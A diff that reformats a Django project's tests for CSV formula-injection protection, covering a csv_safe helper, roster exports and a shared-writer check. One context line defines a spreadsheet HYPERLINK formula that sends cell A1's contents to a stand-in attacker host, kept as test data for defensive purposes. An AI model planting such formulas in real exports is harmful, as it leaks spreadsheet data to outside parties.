@@ -16,20 +16,23 @@ from tests.factories import CandidateFactory
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
 
 
-@pytest.mark.parametrize(("value", "written"), [
-    ("=1+1", "'=1+1"),
-    ("+1+1", "'+1+1"),
-    ("-1+1", "'-1+1"),
-    ("@SUM(A1)", "'@SUM(A1)"),
-    ("\t=1+1", "'\t=1+1"),
-    ("\r=1+1", "'\r=1+1"),
-    ("+16515550123", "+16515550123"),  # an E.164 phone number stays a phone number
-    ("+1 651 555 0123", "'+1 651 555 0123"),  # not digits only: could be a formula
-    ("Casey Rivera", "Casey Rivera"),
-    ("", ""),
-    (None, ""),
-    (-3, -3),  # a number is never a formula
-])
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1+1", "'+1+1"),
+        ("-1+1", "'-1+1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("+16515550123", "+16515550123"),  # an E.164 phone number stays a phone number
+        ("+1 651 555 0123", "'+1 651 555 0123"),  # not digits only: could be a formula
+        ("Casey Rivera", "Casey Rivera"),
+        ("", ""),
+        (None, ""),
+        (-3, -3),  # a number is never a formula
+    ],
+)
 def test_csv_safe_neutralises_formula_starts_but_not_phones(value, written):
     assert csv_safe(value) == written
 
@@ -74,9 +77,15 @@ def test_fair_share_csv_keeps_a_formula_as_text(client, staff, north):
 def test_roster_csv_keeps_a_formula_as_text(client, director, north):
     from django.utils import timezone
 
-    call = IntroCall.objects.create(region=north, host=director, starts_at=timezone.now(),
-                                    meeting_url="https://meet.example.org/intro")
-    IntroCallRegistration.objects.create(call=call, candidate=CandidateFactory(state="NY", user__name=FORMULA))
+    call = IntroCall.objects.create(
+        region=north,
+        host=director,
+        starts_at=timezone.now(),
+        meeting_url="https://meet.example.org/intro",
+    )
+    IntroCallRegistration.objects.create(
+        call=call, candidate=CandidateFactory(state="NY", user__name=FORMULA)
+    )
     client.force_login(director)
 
     response = client.get(reverse("candidates:host_call_roster_csv", args=[call.pk]))
@@ -104,8 +113,10 @@ def test_no_export_writes_csv_around_the_shared_writer():
     apps = ["rfs", "candidates", "endorsements", "mentorship", "resources"]
     offenders = [
         str(path.relative_to(root))
-        for app in apps for path in (root / app).rglob("*.py")
-        if path.name != "csv_writer.py" and ("csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text())
+        for app in apps
+        for path in (root / app).rglob("*.py")
+        if path.name != "csv_writer.py"
+        and ("csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text())
     ]
 
     assert offenders == []
